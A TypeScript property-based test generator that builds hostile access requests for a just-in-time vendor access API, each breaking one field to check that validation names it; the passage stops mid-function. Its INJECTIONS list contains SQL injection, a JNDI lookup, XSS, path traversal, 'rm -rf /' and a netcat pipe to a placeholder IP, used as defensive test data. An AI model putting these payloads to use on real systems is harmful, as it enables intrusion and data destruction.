/**
 * Generated hostile access requests, each built from a request that passes every rule by breaking exactly one field,
 * and carrying the name of that field: a refusal must name it, so the property can check the name exactly.
 *
 * Free text (the reason) is data, stored and shown quoted: injection-looking text in it is accepted by design, so the
 * reason is broken here only by what no reason may hold (nothing visible, control and invisible characters, lengths).
 */
import * as fc from 'fast-check';
import { IDENTITY_FIELDS } from '../../lambdas/domain/request-validation';

/** Who sends the request: dana sponsors acme and globex, erin is the break-glass person. */
export type Sender = 'dana' | 'erin';

/** The world the requests are made in: instance ids as moto named them, and the run's clock. */
export interface HostileWorld {
  /** Running billing-db instances: acme may have them. */
  readonly billing: readonly [string, string];
  /** Running web-frontend instances: acme may not. */
  readonly web: readonly string[];
  /** A running instance in no target group. */
  readonly untagged: string;
  /** A terminated instance tagged for billing-db. */
  readonly terminated: string;
  readonly now: Date;
}

/** Vendors the world's config adds to cdk.json's: both sponsored, one disabled, one sponsored by erin alone. */
export const DISABLED_VENDOR = 'umbrella';
export const UNSPONSORED_VENDOR = 'hooli';

/** The kinds of hostile request, each a way to break one field; every run must meet each of them. */
export const HOSTILE_KINDS = [
  'wrong JSON type',
  'not a JSON object',
  'not JSON',
  'missing field',
  'empty body',
  'extra field',
  'identity field',
  'CIDR in the body',
  'CIDR in a port range',
  'huge string',
  'huge list',
  'deep nesting',
  'hidden character',
  'only invisible reason',
  'lookalike',
  'injection',
  'unknown vendor',
  'vendor not open to the sender',
  'malformed target',
  'unknown target',
  'target not eligible',
  'repeated target',
  'target count',
  'bad duration',
  'longer than the vendor allows',
  'number trick',
  'start in the past',
  'start too far ahead',
  'malformed start',
  'reversed window',
  'break-glass misuse',
  'not a sponsor',
  'bad ticket',
  'bad reason',
  'port out of range',
  'reversed port range',
  'bad protocol',
  'port range not allowed',
  'ports for a vendor without any',
  'port range not an object',
  'port field missing',
] as const;
export type HostileKind = (typeof HOSTILE_KINDS)[number];

export interface HostileCase {
  readonly kind: HostileKind;
  readonly sender: Sender;
  /** The body exactly as sent. */
  readonly body: string;
  /** The field a refusal must name: the one field this case breaks. */
  readonly field: string;
}

type Json = null | boolean | number | string | readonly Json[] | { readonly [key: string]: Json };
type Body = Readonly<Record<string, Json>>;

/** A value that JSON cannot hold as a value (NaN, 1e400, deep nesting): written into the text where this stands. */
const RAW = '\u0000raw-json\u0000';

const REQUEST_FIELDS = ['vendorId', 'targets', 'durationMinutes', 'startAt', 'ticket', 'reason', 'ports', 'breakGlass'];
const REQUIRED_FIELDS = ['vendorId', 'targets', 'durationMinutes', 'ticket', 'reason'] as const;
const JSON_TYPE_OF_FIELD: Readonly<Record<string, string>> = {
  vendorId: 'string',
  targets: 'array',
  durationMinutes: 'number',
  startAt: 'string',
  ticket: 'string',
  reason: 'string',
  ports: 'array',
  breakGlass: 'boolean',
};
const PORT_FIELDS = ['protocol', 'fromPort', 'toPort'] as const;
const ALLOWED_PORT = { protocol: 'tcp', fromPort: 5432, toPort: 5432 } as const;
const ACME_MAX_MINUTES = 8 * 60;
const GLOBEX_MAX_MINUTES = 4 * 60;
const BREAK_GLASS_MAX_MINUTES = 60;
const HUGE = 100_000;

/** Characters a reader cannot see, or that change how text around them is shown. */
const HIDDEN = [
  '\u0000',
  '\u0007',
  '\b',
  '\t',
  '\n',
  '\r',
  '\u001b',
  '\u007f',
  '\u0085',
  '\u009b',
  '\u00ad',
  '\u061c',
  '\u200b',
  '\u200c',
  '\u200d',
  '\u200e',
  '\u200f',
  '\u2028',
  '\u2029',
  '\u202a',
  '\u202e',
  '\u2066',
  '\u2069',
  '\ufeff',
];

/** Letters and digits from other scripts that look like the ASCII ones they stand in for. */
const LOOKALIKES: Readonly<Record<string, string>> = {
  a: '\u0430',
  c: '\u0441',
  e: '\u0435',
  i: '\u0456',
  m: '\u043c',
  o: '\u043e',
  p: '\u0440',
  x: '\u0445',
  C: '\u0421',
  H: '\u041d',
  G: '\u050c',
  '0': '\uff10',
  '1': '\uff11',
  '4': '\uff14',
  '7': '\uff17',
  '-': '\u2010',
  ':': '\u2236',
};

/** Text shaped like an attack on whatever might read it: SQL, templates, HTML, paths, IAM wildcards and variables. */
const INJECTIONS = [
  "'; DROP TABLE grants; --",
  '" OR 1=1 --',
  '${aws:username}',
  '${aws:PrincipalTag/team}',
  '${jndi:ldap://198.51.100.1/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '*',
  '?',
  'arn:aws:iam::*:role/*',
  'arn:aws:ec2:*:*:instance/*',
  'i-*',
  'group:*',
  '$(reboot)',
  '`id`',
  '%00',
  '{"$ne": null}',
  '__proto__',
  'a; rm -rf /',
  'a|nc 198.51.100.1 4444',
];

/** Injections that leave even a ticket id invalid when appended to one (a path is a valid ticket id suffix). */
const APPENDABLE_INJECTIONS = INJECTIONS.filter((text) => /[^A-Za-z0-9._:#/-]/.test(text));

/** Keys a body might carry to widen what a grant opens: none is a request field. */
const NETWORK_KEYS = [
  'cidr',
  'cidrs',
  'cidrIp',
  'cidrIpv6',
  'allowedCidrs',
  'sourceIp',
  'sourceCidr',
  'ipRanges',
  'prefixListId',
  'sourceSecurityGroupId',
  'securityGroupId',
];
const CIDR_TRICKS: readonly Json[] = [
  '0.0.0.0/0',
  '::/0',
  ['0.0.0.0/0'],
  '10.0.0.0/8',
  '203.0.113.0/24 ',
  '203.0.113.0/33',
  '0.0.0.0/0, 203.0.113.0/24',
  'sg-0123456789abcdef0',
  'pl-12345678',
];

/** Keys that name other parts of the system, or that mean something to JavaScript itself. */
const SYSTEM_KEYS = [
  'grantId',
  'extends',
  'status',
  'approvals',
  'expiresAt',
  'roleArn',
  'policy',
  'Statement',
  'Condition',
  'permissionsBoundary',
  'osUser',
  'runAs',
  'maxGrantHours',
  'durationHours',
  '__proto__',
  'constructor',
  'prototype',
  '',
  ' ',
  'vendorId ',
  'VendorId',
  'ports.0.cidr',
  'a.b',
  'targets[0]',
  '\u0000',
  '\u202evendorId',
];

const MALFORMED_STARTS = [
  '2026-03-02T09:00:00',
  '2026-03-02',
  '09:00',
  'tomorrow',
  'now',
  '',
  '2026-02-30T09:00:00Z',
  '2026-03-05T23:59:60Z',
  '2026-13-01T00:00:00Z',
  '2026-03-02T24:00:00Z',
  '2026-03-02T09:60:00Z',
  '2026-03-02T09:00:00+25:00',
  '+275760-09-13T00:00:00Z',
  '-000001-01-01T00:00:00Z',
  '1772442000',
  '2026-03-02T09:00:00ZZ',
  '2026-03-02 09:00:00Z',
  '2026-03-02t09:00:00z',
  '\uff12\uff10\uff12\uff16-03-02T09:00:00Z',
  ' 2026-03-02T09:00:00Z',
  '2026-03-02T09:00:00Z ',
  'Mon, 02 Mar 2026 09:00:00 GMT',
];

const MALFORMED_TARGETS = [
  '',
  '*',
  'i-',
  'i-*',
  'i-0123 ',
  'i-0123',
  'i-0123456',
  'i-0123456789abcdef01',
  'i-0123456789abcdeg0',
  'I-0123456789ABCDEF0',
  'i-0123456789ABCDEF0',
  ' i-0123456789abcdef0',
  'i-0123456789abcdef0 ',
  'i_0123456789abcdef0',
  'arn:aws:ec2:eu-west-1:111122223333:instance/i-0123456789abcdef0',
  'sg-0123456789abcdef0',
  'ami-0123456789abcdef0',
  'i-0123456789abcdef0,i-0123456789abcdef1',
  'group:',
  'group:*',
  'group:billing-db/*',
  'group:billing-db ',
  'group: billing-db',
  'group:Billing-DB',
  'GROUP:billing-db',
  'group:../web-frontend',
  'group:billing-db,web-frontend',
  'group:-billing',
  'group:billing-',
  'group:ab',
  `group:${'a'.repeat(33)}`,
  'billing-db',
  'tag:jit-access:target-group=billing-db',
];

const UNKNOWN_VENDORS = [
  '',
  'initech',
  'ACME',
  'Acme',
  'acme ',
  ' acme',
  'acme\n',
  'acm',
  'acmee',
  'acme-',
  'acme*',
  '*',
  '%',
  '.*',
  'acme|globex',
  'acme,globex',
  '../acme',
  'acme/../globex',
  'null',
  'undefined',
  'a'.repeat(64),
];

/** Numbers as JSON text: what each parses to (or that it does not parse) decides the field that must be named. */
const NUMBER_TRICKS: ReadonlyArray<{ readonly text: string; readonly parses: boolean }> = [
  { text: 'NaN', parses: false },
  { text: 'Infinity', parses: false },
  { text: '-Infinity', parses: false },
  { text: '0x3c', parses: false },
  { text: '060', parses: false },
  { text: '+60', parses: false },
  { text: '.5e2', parses: false },
  { text: '60.', parses: false },
  { text: 'undefined', parses: false },
  { text: '1e400', parses: true },
  { text: '-1e400', parses: true },
  { text: '1e-400', parses: true },
  { text: '-0', parses: true },
  { text: '99999999999999999999', parses: true },
  { text: '-99999999999999999999', parses: true },
];

function jsonType(value: unknown): string {
  if (value === null) return 'null';
  if (Array.isArray(value)) return 'array';
  return typeof value;
}

/** How the API names a key it does not know: itself when it reads plainly after a dot, else quoted. */
function keyName(key: string): string {
  return /^[A-Za-z_$][\w$]*$/.test(key) ? `.${key}` : `[${JSON.stringify(key)}]`;
}

function fieldOf(parent: string, key: string): string {
  return `${parent}${keyName(key)}`.replace(/^\./, '');
}

/** `text` with `insert` at a position strictly inside it (trimming never removes what stands inside). */
function insideArbitrary(text: string, insert: fc.Arbitrary<string>): fc.Arbitrary<string> {
  return fc
    .tuple(fc.integer({ min: 1, max: Math.max(1, text.length - 1) }), insert)
    .map(([at, inserted]) => `${text.slice(0, at)}${inserted}${text.slice(at)}`);
}

/** `text` with one character that has a lookalike swapped for it. */
function lookalikeOf(text: string): fc.Arbitrary<string> {
  const positions = [...text].flatMap((char, index) => (LOOKALIKES[char] ? [index] : []));
  return fc.constantFrom(...positions).map((index) => {
    const chars = [...text];
    chars[index] = LOOKALIKES[chars[index] as string] as string;
    return chars.join('');
  });
}

function without(body: Body, key: string): Body {
  return Object.fromEntries(Object.entries(body).filter(([name]) => name !== key));
}

/** Every hostile case, by kind; `hostileRequests` picks among the kinds evenly. */
export function hostileCaseArbitraries(world: HostileWorld): Record<HostileKind, fc.Arbitrary<HostileCase>> {
  const [billing0, billing1] = world.billing;
  const danaBody: Body = {
    vendorId: 'acme',
    targets: [billing0],
    durationMinutes: 60,
    ticket: 'CHG-4711',
    reason: 'Vendor support for the billing database upgrade',
    ports: [ALLOWED_PORT],
  };
  const erinBody: Body = { ...danaBody, durationMinutes: 30, breakGlass: true };
  const globexBody: Body = without({ ...danaBody, vendorId: 'globex' }, 'ports');

  const sent = (kind: HostileKind, field: string, body: Body | string, sender: Sender = 'dana'): HostileCase => {
    const text = typeof body === 'string' ? body : JSON.stringify(body);
    // A counterexample prints as what it tries, not as 100,000 characters.
    return Object.defineProperty({ kind, sender, body: text, field }, fc.toStringMethod, {
      value: () => `${kind} as ${sender}, must name ${JSON.stringify(field)}: ${JSON.stringify(text.slice(0, 300))}`,
    });
  };
  /** `body` as JSON text with `raw` written where the RAW marker stands. */
  const withRaw = (body: Body, raw: string) => JSON.stringify(body).replace(JSON.stringify(RAW), raw);

  /** A valid target list with `target` at a random place among valid ones; the field is its index. */
  const amongValidTargets = (kind: HostileKind, target: fc.Arbitrary<string>, base: Body = danaBody) =>
    fc
      .tuple(target, fc.shuffledSubarray([billing0, billing1, 'group:billing-db'], { maxLength: 2 }), fc.nat())
      .map(([bad, valid, at]) => {
        const index = at % (valid.length + 1);
        const targets = [...valid.slice(0, index), bad, ...valid.slice(index)];
        return sent(kind, `targets[${index}]`, { ...base, targets });
      });
  /** Valid port ranges with `port` at a random place among them; `field` names what inside it is wrong. */
  const amongValidPorts = (kind: HostileKind, port: fc.Arbitrary<Json>, field = '', base: Body = danaBody) =>
    fc.tuple(port, fc.nat({ max: 3 }), fc.nat({ max: 3 })).map(([bad, before, after]) => {
      const ports = [...Array<Json>(before).fill(ALLOWED_PORT), bad, ...Array<Json>(after).fill(ALLOWED_PORT)];
      return sent(kind, `ports[${before}]${field}`, { ...base, ports });
    });

  const notAllowedPort = fc
    .record({
      protocol: fc.constantFrom('tcp', 'udp'),
      a: fc.integer({ min: 1, max: 65535 }),
      b: fc.integer({ min: 1, max: 65535 }),
    })
    .map(({ protocol, a, b }) => ({ protocol, fromPort: Math.min(a, b), toPort: Math.max(a, b) }))
    .filter((p) => !(p.protocol === 'tcp' && p.fromPort === 5432 && p.toPort === 5432));
  const badPortNumber = fc.oneof(
    fc.integer({ min: -1_000_000, max: 0 }),
    fc.integer({ min: 65536, max: 2 ** 31 }),
    fc.double({ min: 1, max: 65535, noNaN: true }).filter((n) => !Number.isInteger(n)),
  );
  const futureStart = fc
    .integer({ min: 5, max: 29 * 24 * 60 })
    .map((minutes) => new Date(world.now.getTime() + minutes * 60_000));

  return {
    'wrong JSON type': fc.constantFrom(...REQUEST_FIELDS).chain((field) =>
      fc
        .jsonValue({ maxDepth: 2 })
        .filter((value) => jsonType(value) !== JSON_TYPE_OF_FIELD[field])
        .map((value) => sent('wrong JSON type', field, { ...danaBody, [field]: value as Json })),
    ),
    'not a JSON object': fc
      .constantFrom<Json>(null, [], [danaBody], 'acme', 0, true, false)
      .map((body) => sent('not a JSON object', 'request', JSON.stringify(body))),
    'not JSON': fc
      .constantFrom(
        '{',
        '{"vendorId": "acme",}',
        "{'vendorId': 'acme'}",
        '{"vendorId": "acme" /* and more */}',
        `\ufeff${JSON.stringify(danaBody)}`,
        `${JSON.stringify(danaBody)}}`,
        `${JSON.stringify(danaBody)}\u0000`,
        'vendorId=acme&durationMinutes=60',
        '<request vendorId="acme"/>',
      )
      .map((text) => sent('not JSON', 'body', text)),
    'missing field': fc
      .constantFrom(...REQUIRED_FIELDS)
      .map((field) => sent('missing field', field, without(danaBody, field))),
    'empty body': fc.constantFrom('', '{}').map((text) => sent('empty body', 'vendorId', text)),
    'extra field': fc
      .oneof(
        fc.constantFrom(...SYSTEM_KEYS),
        fc.string({ unit: 'grapheme', maxLength: 24 }),
        fc.string({ unit: 'binary', maxLength: 8 }),
      )
      .filter((key) => !REQUEST_FIELDS.includes(key))
      .chain((key) =>
        fc
          .jsonValue({ maxDepth: 1 })
          .map((value) => sent('extra field', fieldOf('', key), { ...danaBody, [key]: value as Json })),
      ),
    'identity field': fc
      .tuple(
        fc.constantFrom(...IDENTITY_FIELDS),
        fc.constantFrom<Json>(
          'alice',
          'arn:aws:iam::111122223333:user/bob',
          { person: 'erin', arn: 'arn:aws:iam::111122223333:user/erin' },
          null,
        ),
      )
      .map(([key, value]) => sent('identity field', key, { ...danaBody, [key]: value })),
    'CIDR in the body': fc
      .tuple(fc.constantFrom(...NETWORK_KEYS), fc.constantFrom(...CIDR_TRICKS))
      .map(([key, value]) => sent('CIDR in the body', key, { ...danaBody, [key]: value })),
    'CIDR in a port range': fc
      .tuple(fc.constantFrom(...NETWORK_KEYS), fc.constantFrom(...CIDR_TRICKS))
      .chain(([key, value]) =>
        amongValidPorts('CIDR in a port range', fc.constant({ ...ALLOWED_PORT, [key]: value }), `.${key}`),
      ),
    'huge string': fc
      .tuple(
        fc.constantFrom('vendorId', 'ticket', 'reason', 'startAt', 'targets', 'protocol', 'key'),
        fc.constantFrom('a', '7', 'z-', '\u{1d54f}', '\u064a', '\u200b', ' '),
      )
      .map(([where, unit]) => {
        const huge = unit.repeat(Math.ceil(HUGE / unit.length));
        if (where === 'targets') return sent('huge string', 'targets[0]', { ...danaBody, targets: [huge] });
        if (where === 'protocol') {
          return sent('huge string', 'ports[0].protocol', {
            ...danaBody,
            ports: [{ ...ALLOWED_PORT, protocol: huge }],
          });
        }
        if (where === 'key') return sent('huge string', fieldOf('', huge), { ...danaBody, [huge]: 1 });
        return sent('huge string', where, { ...danaBody, [where]: huge });
      }),
    'huge list': fc.constantFrom('targets', 'ports').map((field) =>
      field === 'targets'
        ? sent('huge list', 'targets', {
            ...danaBody,
            targets: Array.from({ length: 10_000 }, (_, i) => `i-${i.toString(16).padStart(17, '0')}`),
          })
        : sent('huge list', 'ports', { ...danaBody, ports: Array<Json>(10_000).fill(ALLOWED_PORT) }),
    ),
    'deep nesting': fc
      .tuple(
        fc.constantFrom('vendorId', 'targets[0]', 'ports[0]', 'durationMinutes'),
        fc.integer({ min: 2, max: 5000 }),
      )
      .map(([field, depth]) => {
        const nested = `${'['.repeat(depth)}${']'.repeat(depth)}`;
        if (field === 'targets[0]')
          return sent('deep nesting', field, withRaw({ ...danaBody, targets: [RAW] }, nested));
        if (field === 'ports[0]') return sent('deep nesting', field, withRaw({ ...danaBody, ports: [RAW] }, nested));
        return sent('deep nesting', field, withRaw({ ...danaBody, [field]: RAW }, nested));
      }),
    'hidden character': fc
      .constantFrom('vendorId', 'ticket', 'reason', 'startAt', 'target', 'group', 'protocol')
      .chain((where) => {
        const hidden = fc.constantFrom(...HIDDEN);
        if (where === 'target') return amongValidTargets('hidden character', insideArbitrary(billing1, hidden));
        if (where === 'group')
          return amongValidTargets('hidden character', insideArbitrary('group:billing-db', hidden));
        if (where === 'protocol') {
          return amongValidPorts(
            'hidden character',
            insideArbitrary('tcp', hidden).map((protocol) => ({ ...ALLOWED_PORT, protocol })),
            '.protocol',
          );
        }
        const valid = where === 'startAt' ? '2026-03-02T09:00:00Z' : String(danaBody[where]);
        return insideArbitrary(valid, hidden).map((text) =>
          sent('hidden character', where, { ...danaBody, [where]: text }),
        );
      }),
    'only invisible reason': fc
      .array(fc.constantFrom('\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u00ad', '\u180e'), {
        minLength: 10,
        maxLength: 40,
      })
      .map((chars) => sent('only invisible reason', 'reason', { ...danaBody, reason: `\u200b${chars.join('')}` })),
    lookalike: fc.constantFrom('vendorId', 'ticket', 'target', 'group', 'protocol').chain((where) => {
      if (where === 'target') return amongValidTargets('lookalike', lookalikeOf(billing1));
      if (where === 'group') return amongValidTargets('lookalike', lookalikeOf('group:billing-db'));
      if (where === 'protocol') {
        return amongValidPorts(
          'lookalike',
          lookalikeOf('tcp').map((protocol) => ({ ...ALLOWED_PORT, protocol })),
          '.protocol',
        );
      }
      return lookalikeOf(String(danaBody[where])).map((text) =>
        sent('lookalike', where, { ...danaBody, [where]: text }),
      );
    }),
    injection: fc
      .tuple(
        fc.constantFrom('vendorId', 'ticket', 'startAt', 'target', 'group', 'protocol'),
        fc.constantFrom(...INJECTIONS),
        fc.boolean(),
      )
      .chain(([where, injection, appended]) => {
        const suffix = APPENDABLE_INJECTIONS.includes(injection) ? injection : "'; DROP TABLE grants; --";
        const payload = (valid: string) => (appended ? `${valid}${suffix}` : injection);
        if (where === 'target') return amongValidTargets('injection', fc.constant(payload(billing1)));
        if (where === 'group') return amongValidTargets('injection', fc.constant(`group:${payload('billing-db')}`));
        if (where === 'protocol') {
          return amongValidPorts('injection', fc.constant({ ...ALLOWED_PORT, protocol: payload('tcp') }), '.protocol');
        }
        const valid = where === 'startAt' ? '2026-03-02T09:00:00Z' : String(danaBody[where]);
        return fc.constant(sent('injection', where, { ...danaBody, [where]: payload(valid) }));
      }),
    'unknown vendor': fc
      .oneof(
        fc.constantFrom(...UNKNOWN_VENDORS),
        fc.stringMatching(/^[a-z][a-z0-9-]{1,30}[a-z0-9]$/),
        fc.string({ unit: 'grapheme', minLength: 1, maxLength: 64 }),
      )
      .filter((vendorId) => !['acme', 'globex', DISABLED_VENDOR, UNSPONSORED_VENDOR].includes(vendorId))
      .map((vendorId) => sent('unknown vendor', 'vendorId', { ...danaBody, vendorId })),
    'vendor not open to the sender': fc
      .constantFrom(DISABLED_VENDOR, UNSPONSORED_VENDOR)
      .map((vendorId) => sent('vendor not open to the sender', 'vendorId', { ...globexBody, vendorId })),
    'malformed target': amongValidTargets(
      'malformed target',
      fc.oneof(
        fc.constantFrom(...MALFORMED_TARGETS),
        fc.constantFrom(billing1.toUpperCase(), `${billing1} `, billing1.slice(0, 9), `${billing1}0`, `${billing1}*`),
      ),
    ),
    'unknown target': amongValidTargets(
      'unknown target',
      fc.oneof(
        fc.string({ unit: fc.constantFrom(...'0123456789abcdef'), minLength: 17, maxLength: 17 }).map((h) => `i-${h}`),
        fc.string({ unit: fc.constantFrom(...'0123456789abcdef'), minLength: 8, maxLength: 8 }).map((h) => `i-${h}`),
        fc
          .stringMatching(/^[a-z][a-z0-9-]{1,30}[a-z0-9]$/)
          .filter((name) => !['billing-db', 'web-frontend'].includes(name))
          .map((name) => `group:${name}`),
      ),
    ),
    'target not eligible': amongValidTargets(
      'target not eligible',
      fc.constantFrom(...world.web, 'group:web-frontend', world.untagged, world.terminated),
    ),
    'repeated target': fc
      .shuffledSubarray([billing0, billing1, 'group:billing-db'], { minLength: 1 })
      .chain((valid) =>
        fc
          .constantFrom(...valid)
          .map((repeat) =>
            sent('repeated target', `targets[${valid.length}]`, { ...danaBody, targets: [...valid, repeat] }),
          ),
      ),
    'target count': fc.constantFrom(0, 21, 50).map((count) =>
      sent('target count', 'targets', {
        ...danaBody,
        targets: Array.from({ length: count }, (_, i) => `i-${i.toString(16).padStart(17, 'a')}`),
      }),
    ),
    'bad duration': fc
      .oneof(
        fc.integer({ min: -(2 ** 31), max: 14 }),
        fc.constantFrom(0, -1, 14),
        fc.integer({ min: ACME_MAX_MINUTES + 1, max: 2 ** 31 }),
        fc.constantFrom(ACME_MAX_MINUTES + 1, 2 ** 53, -(2 ** 53), Number.MAX_VALUE, Number.MIN_VALUE),
        fc.double({ noNaN: true, noDefaultInfinity: true }).filter((n) => !Number.isInteger(n)),
      )
      .map((durationMinutes) => sent('bad duration', 'durationMinutes', { ...danaBody, durationMinutes })),
    'longer than the vendor allows': fc
      .oneof(
        fc.integer({ min: GLOBEX_MAX_MINUTES + 1, max: 100_000 }).map((durationMinutes) => ({
          body: { ...globexBody, durationMinutes },
          sender: 'dana' as const,
        })),
        fc.integer({ min: BREAK_GLASS_MAX_MINUTES + 1, max: 100_000 }).map((durationMinutes) => ({
          body: { ...erinBody, durationMinutes },
          sender: 'erin' as const,
        })),
      )
      .map(({ body, sender }) => sent('longer than the vendor allows', 'durationMinutes', body, sender)),
    'number trick': fc
      .tuple(fc.constantFrom(...NUMBER_TRICKS), fc.constantFrom('durationMinutes', 'fromPort', 'toPort'))
      .map(([{ text, parses }, where]) => {
        const body =
          where === 'durationMinutes'
            ? withRaw({ ...danaBody, durationMinutes: RAW }, text)
            : withRaw({ ...danaBody, ports: [{ ...ALLOWED_PORT, [where]: RAW }] }, text);
        const field = where === 'durationMinutes' ? where : `ports[0].${where}`;
        return sent('number trick', parses ? field : 'body', body);
      }),
    'start in the past': fc.integer({ min: 61, max: 20 * 365 * 24 * 3600 }).map((seconds) =>
      sent('start in the past', 'startAt', {
        ...danaBody,
        startAt: new Date(world.now.getTime() - seconds * 1000).toISOString(),
      }),
    ),
    'start too far ahead': fc
      .date({
        min: new Date(world.now.getTime() + 30 * 24 * 3600 * 1000 + 1000),
        max: new Date('9999-12-31T23:59:59Z'),
        noInvalidDate: true,
      })
      .map((start) => sent('start too far ahead', 'startAt', { ...danaBody, startAt: start.toISOString() })),
    'malformed start': fc
      .constantFrom(...MALFORMED_STARTS)
      .map((startAt) => sent('malformed start', 'startAt', { ...danaBody, startAt })),
    'reversed window': fc
      .tuple(
        futureStart,
        fc.integer({ min: 0, max: 24 * 60 }),
        fc.constantFrom('expiresAt', 'endAt', 'endsAt', 'until'),
      )
      .map(([start, minutesBefore, key]) =>
        sent('reversed window', key, {
          ...danaBody,
          startAt: start.toISOString(),
          [key]: new Date(start.getTime() - minutesBefore * 60_000).toISOString(),
        }),
      ),
    'break-glass misuse': fc.constantFrom('dana asks', 'with a start', 'unknown vendor').chain((misuse) => {
      if (misuse === 'dana asks') return fc.constant(sent('break-glass misuse', 'breakGlass', erinBody));
      if (misuse === 'unknown vendor') {
        return fc.constant(sent('break-glass misuse', 'vendorId', { ...erinBody, vendorId: 'initech' }, 'erin'));
      }
      return futureStart.map((start) =>
        sent('break-glass misuse', 'startAt', { ...erinBody, startAt: start.toISOString() }, 'erin'),
      );
    }),
    'not a sponsor': fc.constant(sent('not a sponsor', 'vendorId', danaBody, 'erin')),
    'bad ticket': fc
      .oneof(
        fc.constantFrom(
          '',
          ' ',
          ' CHG-4711',
          'CHG-4711 ',
          'CHG 4711',
          '-CHG-4711',
          '#4711',
          'CHG-4711\n',
          'CHG-\u00004711',
        ),
        fc.integer({ min: 65, max: 5000 }).map((length) => 'C'.repeat(length)),
      )
      .map((ticket) => sent('bad ticket', 'ticket', { ...danaBody, ticket })),
    'bad reason': fc
      .oneof(
        fc.constantFrom('', ' ', '\t\n\r ', '\u00a0'.repeat(20), 'fix it', '         fix       ', 'x'.repeat(1001)),
        fc.string({ unit: fc.constantFrom(' ', '\t', '\n', '\u3000', '\u2003'), maxLength: 50 }),
        fc.string({ unit: 'grapheme-ascii', maxLength: 9 }),
      )
      .map((reason) => sent('bad reason', 'reason', { ...danaBody, reason })),
    'port out of range': fc
      .tuple(fc.constantFrom(...PORT_FIELDS.slice(1)), badPortNumber)
      .chain(([key, value]) =>
        amongValidPorts(
          'port out of range',
          fc.constant(key === 'fromPort' ? { ...ALLOWED_PORT, fromPort: value } : { ...ALLOWED_PORT, toPort: value }),
          `.${key}`,
        ),
      ),
    'reversed port range': amongValidPorts(
      'reversed port range',
      fc
        .tuple(fc.integer({ min: 1, max: 65535 }), fc.integer({ min: 1, max: 65535 }))
        .filter(([a, b]) => a !== b)
        .map(([a, b]) => ({ protocol: 'tcp', fromPort: Math.max(a, b), toPort: Math.min(a, b) })),
      '.toPort',
    ),
    'bad protocol': amongValidPorts(
      'bad protocol',
      fc
        .constantFrom<Json>('icmp', '-1', 'all', 'any', 'TCP', 'Tcp', 'tcp ', 'tcp/udp', '6', '17', '', '*', 6, null)
        .map((protocol) => ({ ...ALLOWED_PORT, protocol })),
      '.protocol',
    ),
    'port range not allowed': amongValidPorts('port range not allowed', notAllowedPort),
    'ports for a vendor without any': fc
      .oneof(notAllowedPort, fc.constant(ALLOWED_PORT))
      .map((port) => sent('ports for a vendor without any', 'ports[0]', { ...globexBody, ports: [port] })),
    'port range not an object': amongValidPorts(
      'port range not an object',
      fc.constantFrom<Json>(null, 5432, '5432', 'tcp:5432', [5432, 5432], [], true),
    ),
    'port field missing': fc
      .constantFrom('fromPort', 'toPort')
      .chain((key) => amongValidPorts('port field missing', fc.constant(without(ALLOWED_PORT, key)), `.${key}`)),
  };
}

/** Any hostile case, its kind chosen evenly. */
export function hostileRequests(world: HostileWorld): fc.Arbitrary<HostileCase> {
  return fc.oneof(...Object.values(hostileCaseArbitraries(world)));
}

/** Who a forged workflow input may claim asked: a configured person, with the ARN they sign with. */
export interface Requester {
  readonly person: string;
  readonly arn: string;
}

/** An event for the workflow's validate step, as a caller who could invoke it might forge it. */
export interface ForgedEvent {
  readonly kind: string;
  readonly event: unknown;
  /** The field the refusal must name. */
  readonly field: string;
}

const MALFORMED_GRANT_IDS = [
  '',
  'g-1',
  'G-0123456789AB',
  '../../etc/passwd',
  'g-*',
  '*',
  'jit-${aws:username}',
  '-g0123456789',
  'g_0123456789ab',
  'g-0123 456789',
  'g-0123456789ab\u0000',
  'g-0123456789a\u0431',
  'a'.repeat(49),
  'a'.repeat(HUGE),
];

/**
 * Forged inputs of the workflow's first step (`{ input, grantId }`): every hostile body above with the requester the
 * API would have attached, and what only a forger can change: the requester, the grant id, the grant extended and
 * the event's own shape.
 */
export function forgedValidateEvents(
  world: HostileWorld,
  requesters: Readonly<Record<Sender | 'bob', Requester>>,
): fc.Arbitrary<ForgedEvent> {
  const grantId = fc.stringMatching(/^g-[0-9a-f]{12}$/);
  const body: Body = {
    vendorId: 'acme',
    targets: [world.billing[0]],
    durationMinutes: 60,
    ticket: 'CHG-4711',
    reason: 'Vendor support for the billing database upgrade',
  };
  const forged = (kind: string, field: string, event: unknown): ForgedEvent =>
    Object.defineProperty({ kind, event, field }, fc.toStringMethod, {
      value: () => `${kind}, must name ${JSON.stringify(field)}: ${JSON.stringify(event)?.slice(0, 300)}`,
    });
  const withInput = (kind: string, field: string, input: unknown) =>
    grantId.map((id) => forged(kind, field, { input, grantId: id }));
  const dana = requesters.dana;

  const hostileBodies = hostileRequests(world)
    .map((hostile) => ({ hostile, parsed: parsedOrUndefined(hostile.body) }))
    .filter(({ parsed }) => parsed !== undefined && !(isObject(parsed) && 'requester' in parsed))
    .chain(({ hostile, parsed }) =>
      withInput(
        `${hostile.kind} (sent to the workflow)`,
        hostile.field,
        isObject(parsed) ? { ...parsed, requester: requesters[hostile.sender] } : parsed,
      ),
    );

  return fc.oneof(
    { arbitrary: hostileBodies, weight: 3 },
    fc
      .tuple(
        fc.constantFrom('dana', 'erin', 'alice', '*', 'Dana'),
        fc.constantFrom(
          requesters.erin.arn,
          requesters.bob.arn,
          `${dana.arn} `,
          dana.arn.toUpperCase(),
          dana.arn.replace('111122223333', '444455556666'),
          dana.arn.replace('dana@', 'mallory@'),
          'arn:aws:iam::111122223333:user/*',
          'arn:aws:iam::111122223333:root',
          '*',
          '${aws:userid}',
        ),
      )
      .filter(([person, arn]) => !(person === 'erin' && arn === requesters.erin.arn))
      .chain(([person, arn]) =>
        withInput('requester claims another person', 'requester', { ...body, requester: { person, arn } }),
      ),
    fc
      .constantFrom<[string, unknown]>(
        ['requester', 'dana'],
        ['requester', dana.arn],
        ['requester', null],
        ['requester', [dana]],
        ['requester.arn', { person: 'dana' }],
        ['requester.arn', { person: 'dana', arn: '' }],
        ['requester.arn', { person: 'dana', arn: `${dana.arn}${'x'.repeat(3000)}` }],
        ['requester.person', { arn: dana.arn }],
        ['requester.person', { person: '', arn: dana.arn }],
        ['requester.person', { person: 'd'.repeat(65), arn: dana.arn }],
        ['requester.admin', { ...dana, admin: true }],
        ['requester.approvers', { ...dana, approvers: ['alice', 'bob'] }],
      )
      .chain(([field, requester]) => withInput('requester malformed', field, { ...body, requester })),
    withInput('requester missing', 'requester', body),
